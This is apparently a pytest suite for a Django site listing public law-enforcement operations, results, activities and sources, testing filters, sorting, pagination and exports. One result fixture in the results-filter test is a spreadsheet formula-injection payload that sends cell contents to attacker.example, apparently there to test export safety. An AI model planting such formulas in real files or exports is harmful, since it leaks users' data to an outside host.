"""The public list pages: anonymous 200 with the expected rows, every filter, sorting, page size."""

import pytest

from operations.models import Metric, Qualifier, Result
from tests import public_fixtures
from tests.public_fixtures import add_results, shown

pytestmark = pytest.mark.django_db

world = public_fixtures.world  # the fixture, imported (conftest files belong to others)


def names(response, attribute):
    return [getattr(record, attribute) for record in shown(response)]


# Operations


def test_operations_list_shows_published_operations(client, world):
    response = client.get("/operations/")
    assert response.status_code == 200
    assert names(response, "slug") == ["jad-see-2024", "jad-see-2023"]
    assert b'Sarajevo, <a href="/participants/bosnia-and-herzegovina/">Bosnia and Herzegovina</a>' in response.content


@pytest.mark.parametrize(
    "query, expected",
    [
        ("series=jad-see", ["jad-see-2024", "jad-see-2023"]),
        ("year=2023", ["jad-see-2023"]),
        ("crime_area=drug-trafficking", ["jad-see-2023"]),
        ("crime_area=firearms-trafficking", ["jad-see-2024"]),
        ("lead=spain", ["jad-see-2024"]),
        ("lead=bosnia-and-herzegovina", []),  # host, not a leading role
        ("centre_country=north-macedonia", ["jad-see-2023"]),
        ("participant=kosovo", ["jad-see-2024"]),
        ("participant=austria", ["jad-see-2023"]),
        ("q=uniting forces", ["jad-see-2024"]),
        ("year=2023&participant=kosovo", []),
    ],
)
def test_operations_filters(client, world, query, expected):
    response = client.get(f"/operations/?{query}")
    assert response.status_code == 200
    assert not response.context["filter"].form.errors
    assert names(response, "slug") == expected


def test_operations_sorting(client, world):
    assert names(client.get("/operations/?sort=period"), "slug") == ["jad-see-2023", "jad-see-2024"]
    assert names(client.get("/operations/?sort=-period"), "slug") == ["jad-see-2024", "jad-see-2023"]


# Results


def test_results_list_shows_public_figures(client, world):
    response = client.get("/results/")
    assert response.status_code == 200
    # 8 about the published operations and the value of the published training, never the draft's.
    assert len(shown(response)) == 9
    assert {result.operation__slug for result in shown(response)} == {"jad-see-2024", "jad-see-2023", None}
    assert {result.activity__slug for result in shown(response)} == {"firearms-detection-training", None}
    assert "Kosovo*" in response.content.decode()


@pytest.mark.parametrize(
    "query, expected_quotes",
    [
        ("operation=jad-see-2023", {"20000 officers involved"}),
        ("year=2023", {"20000 officers involved"}),
        ("metric=officers", {"22 488 officers", "over 22,000 officers", "20000 officers involved"}),
        # Choosing a metric finds its breakdown too.
        ("metric=arrests&operation=jad-see-2024", {"566 arrests", "300 migrant smuggling", "262 firearms trafficking"}),
        ("metric=arrests-smuggling", {"300 migrant smuggling"}),
        ("country=kosovo", {"12 weapons in Kosovo*"}),
        ("crime_area=migrant-smuggling", {"300 migrant smuggling"}),
        ("qualifier=over", {"over 22,000 officers"}),
        ("value_min=500&value_max=600", {"566 arrests"}),
        ("value_max=2", {'=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'}),
        ("q=migrant", {"300 migrant smuggling"}),
        # What an activity was worth is a figure of the metric "value", found with the others.
        ("metric=value", {"worth EUR 15 000"}),
        ("metric=value&value_min=10000", {"worth EUR 15 000"}),
        ("metric=value&value_max=100", set()),
        ("year=2024&metric=value", {"worth EUR 15 000"}),
    ],
)
def test_results_filters(client, world, query, expected_quotes):
    response = client.get(f"/results/?{query}")
    assert response.status_code == 200
    assert not response.context["filter"].form.errors
    assert {result.quote for result in shown(response)} == expected_quotes


def test_results_filter_by_source(client, world):
    response = client.get(f"/results/?source={world.news.pk}")
    assert [result.pk for result in shown(response)] == [world.officers_over.pk]


def test_results_sorting_by_value(client, world):
    ascending = [result.value for result in shown(client.get("/results/?sort=value"))]
    assert ascending == sorted(ascending)
    descending = [result.value for result in shown(client.get("/results/?sort=-value"))]
    assert descending == sorted(descending, reverse=True)


def test_results_sorted_by_value_count_a_figure_named_without_one_as_the_smallest(client, world):
    # The same on SQLite and PostgreSQL, whose own orders put NULLs at opposite ends.
    metric = Metric.objects.create(code="not-reported", name="Not reported", unit=world.persons)
    unreported = Result.objects.create(
        operation=world.jad_2024, metric=metric, value=None, source=world.europol_release, quote="arrests were made"
    )
    ascending = shown(client.get("/results/?sort=value&per_page=100"))
    descending = shown(client.get("/results/?sort=-value&per_page=100"))
    assert ascending[0].pk == unreported.pk
    assert descending[-1].pk == unreported.pk
    assert [row.value for row in descending[:-1]] == sorted((row.value for row in ascending[1:]), reverse=True)


def test_results_per_page_choice_and_pages(client, world):
    add_results(world, 30)
    assert len(shown(client.get("/results/"))) == 25
    assert len(shown(client.get("/results/?per_page=10"))) == 10
    assert len(shown(client.get("/results/?per_page=50"))) == 39
    second = client.get("/results/?per_page=10&page=2&sort=value")
    assert [result.value for result in shown(second)] == sorted(
        result.value for result in shown(client.get("/results/?per_page=100&sort=value"))
    )[10:20]


def test_a_page_beyond_the_last_shows_the_last(client, world):
    add_results(world, 30)
    response = client.get("/results/?per_page=10&page=999999")
    assert response.status_code == 200
    assert response.context["table"].page.number == 4


def test_an_invalid_filter_is_shown_and_ignored(client, world):
    response = client.get("/results/?year=abc&operation=jad-see-2023")
    assert response.status_code == 200
    assert "year" in response.context["filter"].form.errors
    assert {result.operation__slug for result in shown(response)} == {"jad-see-2023"}
    assert b"could not be used" in response.content


def test_filters_live_in_the_url_and_links_keep_them(client, world):
    response = client.get("/results/?operation=jad-see-2024&sort=value&page=2&per_page=10")
    content = response.content.decode()
    for export_format in ("csv", "xlsx"):  # every matching row, so not the page
        link = f"?operation=jad-see-2024&amp;sort=value&amp;per_page=10&amp;_export={export_format}"
        assert f'<a href="{link}" rel="nofollow" download>{export_format.upper()}</a>' in content
    assert 'name="sort" value="value"' in content


# Activities


def test_activities_list(client, world):
    response = client.get("/activities/")
    assert response.status_code == 200
    assert set(names(response, "slug")) == {"firearms-detection-training", "3d-printed-firearms"}


@pytest.mark.parametrize(
    "query, expected",
    [
        ("kind=training", {"firearms-detection-training"}),
        ("implementer=seesac", {"firearms-detection-training", "3d-printed-firearms"}),
        ("beneficiary=kosovo", {"firearms-detection-training"}),
        ("beneficiary=bosnia-and-herzegovina", {"3d-printed-firearms"}),
        ("operation=jad-see-2024", {"firearms-detection-training"}),
        ("start=2024-05-01", {"3d-printed-firearms"}),
        ("end=2024-04-01", {"firearms-detection-training"}),
        ("start=2024-03-11&end=2024-03-11", {"firearms-detection-training"}),
        ("year=2024", {"firearms-detection-training", "3d-printed-firearms"}),
        ("year=2023", set()),
        ("q=3D-printed", {"3d-printed-firearms"}),
    ],
)
def test_activities_filters(client, world, query, expected):
    response = client.get(f"/activities/?{query}")
    assert not response.context["filter"].form.errors
    assert set(names(response, "slug")) == expected


# Sources


def test_sources_list_only_public_sources(client, world):
    response = client.get("/sources/")
    assert response.status_code == 200
    titles = names(response, "title")
    assert "Secret leaked draft memo" not in titles
    assert set(titles) == {
        world.europol_release.title,
        world.news.title,
        world.report_2023.title,
        world.seesac_report.title,
    }
    europol = next(source for source in shown(response) if source.pk == world.europol_release.pk)
    assert europol.results_count == 6


@pytest.mark.parametrize(
    "query, expected",
    [
        ("kind=news_report", {"news"}),
        ("year=2023", {"report_2023"}),
        ("operation=jad-see-2023", {"report_2023"}),
        ("operation=jad-see-2024", {"europol_release", "news", "seesac_report"}),
        ("q=agency", {"news"}),
    ],
)
def test_sources_filters(client, world, query, expected):
    response = client.get(f"/sources/?{query}")
    assert not response.context["filter"].form.errors
    assert set(names(response, "pk")) == {getattr(world, name).pk for name in expected}


def test_sources_come_in_their_order_each_with_its_count_of_public_figures(client, world):
    # The order is walked through the index source_year_title, so that only the page's counts are made.
    from operations.models import Result, Source

    sources = shown(client.get("/sources/"))
    assert [source.pk for source in sources] == list(Source.objects.public().values_list("pk", flat=True))
    assert {source.pk: source.results_count for source in sources} == {
        source.pk: Result.objects.public().filter(source=source).count() for source in sources
    }
    assert sum(source.results_count for source in sources) == Result.objects.public().count()


def test_a_sources_public_figures_are_counted_from_an_index_alone(world):
    # SQLite keeps no statistics here, so its plan is the one a million results get: the count reads
    # the index of (source, operation, activity), never the rows (docs/performance.md, issue 18).
    from django.db import connection

    from operations.models import Source

    if connection.vendor != "sqlite":
        pytest.skip("PostgreSQL chooses by its statistics: a handful of rows is read whole")
    sql, params = Source.objects.with_listing().query.sql_with_params()
    with connection.cursor() as cursor:
        plan = " ".join(row[-1] for row in cursor.execute(f"EXPLAIN QUERY PLAN {sql}", params))
    assert "COVERING INDEX result_source_subject (source_id=?)" in plan


def test_sources_sorting(client, world):
    titles = names(client.get("/sources/?sort=title"), "title")
    assert titles == sorted(titles)


def test_qualifier_choices_cover_the_model(client, world):
    response = client.get("/results/")
    assert {value for value, _ in response.context["filter"].form.fields["qualifier"].choices if value} == set(
        Qualifier.objects.values_list("code", flat=True)
    )
